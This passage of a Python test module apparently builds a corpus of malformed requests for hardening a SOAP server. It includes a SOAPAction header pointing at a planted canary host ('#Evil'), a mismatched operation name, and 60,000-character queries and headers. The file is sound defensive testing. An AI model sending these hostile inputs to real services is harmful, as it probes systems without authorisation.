    yield Case("get_long_query", "/SayHello.soap?" + "x" * 60_000, b"", HTTP, frozenset({200, 400, 404, 414, 431}),
               method="GET")
    yield Case("soapaction_mismatch", "/SayHello.soap", HELLO, SOAP_FAULT, REFUSED,
               headers={**SOAP_HEADERS, "soapaction": f'"http://{canary}/#Evil"'})  # strict: as .NET refuses it
    yield Case("literal_soapaction_other_operation", "/InteropService.soap", LITERAL_ADD, LITERAL11, REFUSED,
               headers={**SOAP_HEADERS, "soapaction": '"urn:interop/fail"'})  # strict: as WCF refuses it
    yield Case("huge_header", "/SayHello.soap", HELLO, HTTP, frozenset({200, 400, 413, 431}),
               headers={**SOAP_HEADERS, "x-junk": "j" * 60_000})


SECTIONS: tuple[Callable[[str], Iterator[Case]], ...] = (
    _remoting_cases, _literal_cases, _binary_cases, _http_cases)


def corpus(canary: str) -> list[Case]:
    """Every case, with planted URLs pointing at ``canary`` (``host:port``)."""
    cases = [case for section in SECTIONS for case in section(canary)]
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases


__all__ = ["BINARY", "HTTP", "LITERAL11", "LITERAL12", "SOAP_FAULT", "Case", "corpus"]
